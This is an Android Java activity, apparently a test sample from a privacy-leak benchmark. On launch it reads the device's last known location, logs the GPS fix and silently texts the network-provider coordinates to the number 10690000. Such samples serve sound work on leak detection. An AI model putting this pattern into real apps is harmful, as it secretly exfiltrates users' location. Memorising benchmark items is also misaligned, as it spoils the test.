package cn.privlens.suite.location_of_provider_helper;

import android.app.Activity;
import android.location.Location;
import android.location.LocationManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Log;

/** A helper asks the provider that its caller names for the place it saw last. */
public class Main extends Activity {
    private String last(String provider) {
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        Location seen = manager.getLastKnownLocation(provider);
        return seen == null ? "无" : seen.getLatitude() + "," + seen.getLongitude();
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Log.i("place", last(LocationManager.GPS_PROVIDER));
        SmsManager.getDefault().sendTextMessage("10690000", null, last(LocationManager.NETWORK_PROVIDER), null, null);
    }
}
